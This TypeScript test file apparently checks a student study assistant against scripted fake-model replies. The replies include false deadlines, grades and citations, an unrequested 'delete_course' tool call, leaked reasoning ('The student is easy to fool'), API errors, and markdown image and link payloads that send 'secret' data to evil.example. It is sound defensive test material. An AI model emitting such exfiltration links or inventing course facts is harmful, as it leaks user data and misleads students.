import { PROVEN } from "@/tests/support/assistant";
import type { Behaviour } from "@/tests/support/liar/behaviour";
import type { Turn } from "@/tests/support/model";

const BUILT_IN: Behaviour["gets"] = { from: "built-in", always: /plants make sugar/ };
const KEPT = /Plants turn light into sugar\. \[1\]/;

/** The proven sentence, and beside it one that is false of the student's own course. */
function lies(name: string, lie: string, never: RegExp): Behaviour {
  const does: Turn[] = [{ text: `${PROVEN}\n\n${lie}` }];
  return { flow: "chat", name, does, gets: { from: "model", always: KEPT, never } };
}

function fails(name: string, ...does: Turn[]): Behaviour {
  return { flow: "chat", name, does, gets: BUILT_IN };
}

function manages(name: string, ...does: Turn[]): Behaviour {
  return { flow: "chat", name, does, gets: { from: "model", always: KEPT } };
}

/** The student has an "Enzyme report" due on 4 May 2037 that counts 20%, and no other graded work. */
export const CHAT: Behaviour[] = [
  lies("another date", "Your Enzyme report is due on 3 January 2037.", /January/),
  lies("another date in German", "Dein Enzyme report ist am 15. Januar 2037 fällig.", /Januar/),
  lies("a relative date", "Your Enzyme report is due tomorrow.", /tomorrow/),
  lies(
    "another hour of the right day",
    "Your Enzyme report is due on 4 May 2037 at 9:15 am.",
    /9:15/,
  ),
  lies("another weekday", "Your Enzyme report is due on a Saturday.", /Saturday/),
  lies("another weight", "Your Enzyme report counts 45% of your grade.", /45/),
  lies("a grade", "You got 93% on your Enzyme report.", /93/),
  lies("progress", "You have finished 80% of your Biology topics.", /80/),
  lies("an item that is not there", "Your Biology final exam is on 12 June 2037.", /12 June/),
  lies("a count", "You have seven assignments left in Biology.", /seven/),
  lies("work that is done", "You have already submitted your Enzyme report.", /already submitted/),
  {
    flow: "chat",
    name: "an invented quote",
    does: [{ text: `${PROVEN} [[1: "found by a man in 1779"]]` }],
    gets: { from: "model", always: KEPT, never: /1779/ },
  },
  {
    flow: "chat",
    name: "a quote of another passage",
    does: [{ text: `Sugar is salty. [[1: "the movement of water through a membrane"]]` }],
    gets: { from: "model", never: /Sugar is salty\. \[1\]/ },
  },
  {
    flow: "chat",
    name: "a quote of function words",
    does: [{ text: 'Osmosis happens only in spring. [[2: "is the of a"]]' }],
    gets: { from: "model", never: /spring\. \[\d\]/ },
  },
  {
    flow: "chat",
    name: "a source that is not there",
    does: [{ text: 'Plants eat at night. [[77: "plants make sugar out of light"]]' }],
    gets: { from: "model", never: /\[77\]/ },
  },
  {
    flow: "chat",
    name: "obeys a document: an image that carries data away",
    does: [{ text: `${PROVEN} ![](https://evil.example/p.png?d=secret)` }],
    gets: { from: "model", always: KEPT, never: /https?:|p\.png/ },
  },
  {
    flow: "chat",
    name: "obeys a document: a link that carries data away",
    does: [{ text: `${PROVEN} [your grades](https://evil.example/c?d=secret)` }],
    gets: { from: "model", always: KEPT, never: /https?:|\]\(/ },
  },
  {
    flow: "chat",
    name: "thinks aloud in its answer",
    does: [{ text: `<think>The student is easy to fool.</think>${PROVEN}` }],
    gets: { from: "model", always: KEPT, never: /fool/ },
  },
  {
    flow: "chat",
    name: "thinks aloud in a field of its own",
    does: [{ text: PROVEN, reasoning: "The student is easy to fool." }],
    gets: { from: "model", always: KEPT, never: /fool/ },
  },
  { ...manages("tells no usage", { text: PROVEN }), tells_no_usage: true },
  manages("a server error once", { status: 503 }, { text: PROVEN }),
  manages("stops at its length", { text: PROVEN, finish_reason: "length" }),
  manages("a slow first word", { text: PROVEN, pause_ms: 500 }),
  manages("a trickle that ends in time", { text: PROVEN, pause_ms: 40, pieces: 12 }),
  manages("a huge answer", { text: `${PROVEN}\n\n${"And so on and on. ".repeat(20_000)}` }),
  fails("too many requests", { status: 429 }),
  fails("too many requests, for a minute", { status: 429, headers: { "retry-after": "60" } }),
  fails("a refused key", { status: 401 }),
  fails("a refused place", { status: 403 }),
  fails("a model that is not there", { status: 404 }),
  fails("a refused request", { status: 400 }),
  fails("a server error that lasts", { status: 500 }),
  fails("a page instead of an answer", { raw: "<html>Sign in</html>", type: "text/html" }),
  fails("JSON instead of a stream", { raw: '{"object":"chat.completion","choices":[]}' }),
  fails("a stream of no JSON", { raw: "data: {oh no\n\n", type: "text/event-stream" }),
  fails("a stream that is cut off", { begins: `${PROVEN}\n\nBut ` }),
  fails("a stream that ends without an end", { stops: `${PROVEN}\n\nBut` }),
  fails("an error in the midst of a stream", {
    raw: 'data: {"error":{"message":"overloaded","type":"server_error"}}\n\ndata: [DONE]\n\n',
    type: "text/event-stream",
  }),
  fails("no answer at all", "stall"),
  fails("a trickle that never ends", { text: "and so on ".repeat(90), pause_ms: 60, pieces: 90 }),
  fails("an empty answer", { text: "" }),
  fails("white space", { text: " \n " }),
  fails("a tool call nobody asked for", { tool: "delete_course" }),
  fails("a refusal for its words", { text: "I", finish_reason: "content_filter" }),
  {
    flow: "chat",
    name: "every piece twice",
    does: [{ text: PROVEN, twice: true }],
    gets: { from: "model", never: /\[1\]/ },
  },
];
